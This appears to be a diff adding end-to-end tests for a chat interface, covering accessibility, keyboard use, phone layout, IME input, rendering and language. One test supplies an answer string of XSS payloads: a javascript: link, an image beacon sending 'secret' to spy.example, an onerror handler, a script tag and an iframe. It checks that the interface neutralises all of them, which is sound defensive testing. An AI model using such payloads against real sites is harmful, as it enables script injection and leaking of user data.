@@ -1,0 +1,230 @@
+import { AxeBuilder } from '@axe-core/playwright'
+import type { Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
+
+import { readPage } from './support/chat-page.ts'
+import { openWorld, type World } from './support/world.ts'
+
+let world: World
+beforeAll(async () => {
+  world = await openWorld()
+})
+afterAll(() => world[Symbol.asyncDispose]())
+afterEach(() => {
+  expect(world.faults.splice(0)).toEqual([])
+})
+
+const PHONE = { viewport: { width: 375, height: 740 }, hasTouch: true, isMobile: true }
+const RICH =
+  '[[think Let me look.]][[say # Weather\n\n| City | °C |\n|---|---|\n| 東京 | 18 |\n\n- `one`\n- **two**\n\n> quoted\n\n```ts\nconst wide = "a line of code that is much too long for the screen of a phone and scrolls"\n```]][[ground https://example.com/ Example]]'
+
+test.each(['light', 'dark'] as const)('[DM26] axe finds nothing to mend, in %s', async (scheme) => {
+  const page = await world.visit({ colorScheme: scheme })
+  const { say, tool, alert, idle, log } = readPage(page)
+  await page.getByText('What would you like to do?').waitFor()
+  expect(await violations(page)).toEqual([])
+  await shoot(page, `welcome-${scheme}`)
+
+  await say('What is the weather in Tokyo?')
+  await tool('get_weather').getByText('Done').waitFor()
+  await idle()
+  await say('Send $50 to Alice')
+  await tool('process_payment').getByText('Failed').waitFor()
+  await idle()
+  await say(RICH)
+  await log.getByRole('link', { name: 'Example' }).waitFor()
+  await idle()
+  for (const summary of await page.locator('summary').all()) await summary.click()
+  expect(await violations(page)).toEqual([])
+  await shoot(page, `chat-${scheme}`)
+
+  await say('[[fail 429 retry=7 quota]]')
+  await alert.waitFor()
+  expect(await violations(page)).toEqual([])
+  await shoot(page, `problem-${scheme}`)
+})
+
+test('[DM26] everything can be done by keyboard', async () => {
+  const page = await world.visit()
+  const { log, tool, input, answer, stop, idle, say } = readPage(page)
+  const focused = () => page.evaluate(() => document.activeElement?.textContent ?? '')
+
+  // The suggestions stand before the input, which has the focus.
+  await page.getByText('What would you like to do?').waitFor()
+  for (let back = 0; back < 6; back += 1) await page.keyboard.press('Shift+Tab')
+  expect(await focused()).toBe('What is the weather in Tokyo?')
+  await page.keyboard.press('Enter')
+  await tool('get_weather').getByText('Done').waitFor()
+  await idle()
+  expect(await input.evaluate((element) => element === document.activeElement)).toBe(true)
+
+  await page.keyboard.press('Shift+Tab')
+  expect(await focused()).toBe('Try again')
+  await page.keyboard.press('Shift+Tab')
+  expect(await focused()).toBe('Details')
+  await page.keyboard.press('Enter')
+  await log.getByText('"Tokyo"').waitFor()
+
+  await say('[[say Wait for it]][[wait keyboard]]')
+  await answer(1).getByText('Wait for it').waitFor()
+  await page.keyboard.press('Tab')
+  expect(await stop.evaluate((element) => element === document.activeElement)).toBe(true)
+  await page.keyboard.press('Enter')
+  await idle()
+})
+
+test('[DM27] the page fits a phone', async () => {
+  const page = await world.visit({ ...PHONE, locale: 'ja-JP' })
+  const { say, log, idle } = readPage(page)
+  const overflow = () =>
+    page.evaluate(() => {
+      const root = document.documentElement
+      const column = document.querySelector('.scroller')
+      return Math.max(
+        root.scrollWidth - root.clientWidth,
+        (column?.scrollWidth ?? 0) - (column?.clientWidth ?? 0),
+      )
+    })
+  await page.getByText('何をしましょうか?').waitFor()
+  expect(await overflow()).toBe(0)
+  await shoot(page, 'phone-welcome')
+
+  await say(RICH)
+  await log.getByRole('link', { name: 'Example' }).waitFor()
+  await idle()
+  await say('Aliceに30ドル、Bobに40ドル送金してください')
+  await log.getByText('失敗').first().waitFor()
+  await idle()
+  expect(await overflow()).toBe(0)
+  expect(await violations(page)).toEqual([])
+  await shoot(page, 'phone-chat')
+})
+
+test('[DM28] Enter sends, Shift+Enter makes a new line', async () => {
+  const page = await world.visit()
+  const { input, log } = readPage(page)
+  await input.pressSequentially('one')
+  await input.press('Shift+Enter')
+  await input.pressSequentially('two')
+  expect(await input.inputValue()).toBe('one\ntwo')
+  expect(await log.locator('.user').count()).toBe(0)
+  await input.press('Enter')
+  await log.locator('.user').waitFor()
+  expect(await log.locator('.said').textContent()).toBe('one\ntwo')
+  expect(await input.inputValue()).toBe('')
+})
+
+test('[DM28] Enter that accepts a conversion does not send', async () => {
+  const page = await world.visit()
+  const { input, log } = readPage(page)
+  await input.focus()
+  const browser = await page.context().newCDPSession(page)
+  await browser.send('Input.imeSetComposition', {
+    text: '東京',
+    selectionStart: 2,
+    selectionEnd: 2,
+  })
+  await input.press('Enter')
+  expect(await log.locator('.user').count()).toBe(0)
+  expect(await input.inputValue()).toContain('東京')
+
+  await browser.send('Input.insertText', { text: '東京' })
+  await input.press('Enter')
+  await log.locator('.user').waitFor()
+  expect(await log.locator('.said').textContent()).toContain('東京')
+})
+
+test('[DM29] a chunk renders the message it belongs to and no other', async () => {
+  const page = await world.visit()
+  const { say, answer, idle, log } = readPage(page)
+  await say('[[say The first answer.]]')
+  await answer(0).getByText('The first answer.').waitFor()
+  await idle()
+  await say('[[say one]][[wait render]][[say two three four five six seven eight nine ten]]')
+  await answer(1).getByText('one').waitFor()
+
+  // React 19 gives an element a new props object whenever its component renders.
+  await page.evaluate(() => {
+    const read = (element: Element | null): unknown => {
+      const key = Object.keys(element ?? {}).find((name) => name.startsWith('__reactProps$')) ?? ''
+      return Reflect.get(element ?? {}, key)
+    }
+    const [first, second] = document.querySelectorAll('.assistant')
+    const before = [read(first ?? null), read(second ?? null)]
+    Object.assign(window, {
+      rendered: () =>
+        [read(first ?? null), read(second ?? null)].map((now, i) => now !== before[i]),
+    })
+  })
+  world.emulator.release('render')
+  await log.getByText('nine ten').waitFor()
+  expect(await page.evaluate('rendered()')).toEqual([false, true])
+})
+
+test('[DM30] follows the answer until the reader scrolls up, and again at the end', async () => {
+  const page = await world.visit({ viewport: { width: 800, height: 500 } })
+  const { say, answer, idle } = readPage(page)
+  const lines = (name: string) => Array.from({ length: 30 }, (_, i) => `${name} ${i}`).join('\n\n')
+  const distance = () =>
+    page.locator('.scroller').evaluate((e) => e.scrollHeight - e.clientHeight - e.scrollTop)
+  await say(
+    `[[say ${lines('first')}]][[wait up]][[say \n\n${lines('second')}]][[wait down]][[say \n\n${lines('third')}]]`,
+  )
+  await answer().getByText('first 29').waitFor()
+  await expect.poll(distance).toBeLessThan(2)
+
+  await page.mouse.move(400, 200)
+  await page.mouse.wheel(0, -600)
+  await page.getByRole('button', { name: 'Go to the latest message' }).waitFor()
+  const top = await page.locator('.scroller').evaluate((element) => element.scrollTop)
+  world.emulator.release('up')
+  await answer().getByText('second 29').waitFor({ state: 'attached' })
+  expect(await page.locator('.scroller').evaluate((element) => element.scrollTop)).toBe(top)
+
+  await page.getByRole('button', { name: 'Go to the latest message' }).click()
+  world.emulator.release('down')
+  await answer().getByText('third 29').waitFor()
+  await idle()
+  await expect.poll(distance).toBeLessThan(2)
+})
+
+test('[DM31] speaks the language of the browser, or the one the reader chose', async () => {
+  const page = await world.visit({ locale: 'ja-JP' })
+  await page.getByText('何をしましょうか?').waitFor()
+  expect(await page.getAttribute('html', 'lang')).toBe('ja')
+  await page.getByRole('button', { name: 'English' }).click()
+  await page.getByText('What would you like to do?').waitFor()
+  expect(await page.getAttribute('html', 'lang')).toBe('en')
+  await page.reload()
+  await page.getByText('What would you like to do?').waitFor()
+})
+
+test('[DM32] an answer cannot run, link or load what it should not', async () => {
+  const page = await world.visit()
+  const { say, log, idle } = readPage(page)
+  const elsewhere: string[] = []
+  page.on('request', ({ url }) => {
+    if (!url().startsWith(world.demo.url)) elsewhere.push(url())
+  })
+  const answer =
+    'Look: [run](javascript:alert(1)) ![spy](https://spy.example/?q=secret) <img src="https://spy.example/2" onerror="window.hacked=1"> <script>window.hacked=1</script> <iframe src="https://spy.example/3"></iframe> [fine](https://example.com) End.'
+  world.answer('be evil', () => [{ type: 'say', text: answer }])
+  await say('Please be evil')
+  await log.getByText('End.').waitFor()
+  await idle()
+
+  expect(await page.evaluate('window.hacked')).toBeUndefined()
+  expect(await log.locator('script, iframe, [onerror], a[href^="javascript:"]').count()).toBe(0)
+  expect(elsewhere.filter((url) => !url.startsWith('data:'))).toEqual([])
+  const fine = log.getByRole('link', { name: 'fine' })
+  expect(await fine.getAttribute('rel')).toBe('noopener noreferrer')
+})
+
+async function violations(page: Page): Promise<unknown[]> {
+  const { violations: found } = await new AxeBuilder({ page }).analyze()
+  return found.map(({ id, nodes }) => [id, nodes.map((node) => node.html)])
+}
+
+async function shoot(page: Page, name: string): Promise<void> {
+  await page.screenshot({ path: new URL(`./screenshots/${name}.png`, import.meta.url).pathname })
+}
